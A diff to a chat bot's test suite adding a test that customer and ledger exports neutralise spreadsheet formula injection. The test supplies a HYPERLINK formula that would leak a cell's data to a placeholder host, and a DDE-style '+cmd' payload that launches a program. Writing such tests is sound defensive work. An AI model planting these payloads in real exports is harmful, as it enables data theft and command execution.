@@ -35,6 +35,7 @@ from bot.domain.exports import ExportFile
 from bot.domain.insights import Report, net_promoter_score, parse_days
 from bot.domain.models import Actor, Customer, Identity, Language, Redemption, Role
 from bot.domain.parsing import InvalidInput
+from bot.domain.registration import ConsentAnswer, SkipAnswer, TextAnswer
 from bot.domain.rewards import RedemptionView
 from bot.domain.sales import SaleVoided
 from bot.program import Program, RelationshipMap, load_program
@@ -365,3 +366,22 @@ def test_period_days() -> None:
         with pytest.raises(InvalidInput) as refused:
             parse_days(text)
         assert refused.value.problem == problem
+
+
+async def test_export_cells_a_spreadsheet_would_run_are_written_as_text(bot: RunningBot) -> None:
+    formula = '=HYPERLINK("http://x/?"&C2,"Open")'
+    identity = Identity("telegram", "520")
+    registration = bot.services.registration
+    await registration.start(identity, Language.ES, None, None)
+    for answer in (TextAnswer(formula), SkipAnswer(), SkipAnswer(), ConsentAnswer(True)):
+        await registration.answer(identity, answer)
+    member = await bot.services.membership.member(identity)
+    assert member is not None and member.name == formula
+    owner = bot.api.user(1, "Dueña", "es")
+    await owner.send(f"/adjust {member.member_code} +1 +cmd|' /C calc'!A0")
+    await owner.receive_containing("Ajuste hecho")
+    await owner.send("/export")
+    customers = _read((await owner.receive("sendDocument")).files["document"])
+    ledger = _read((await owner.receive("sendDocument")).files["document"])
+    assert customers[0]["name"] == "'" + formula
+    assert ledger[0]["note"].startswith("'+cmd") and ledger[0]["points"] == "1"
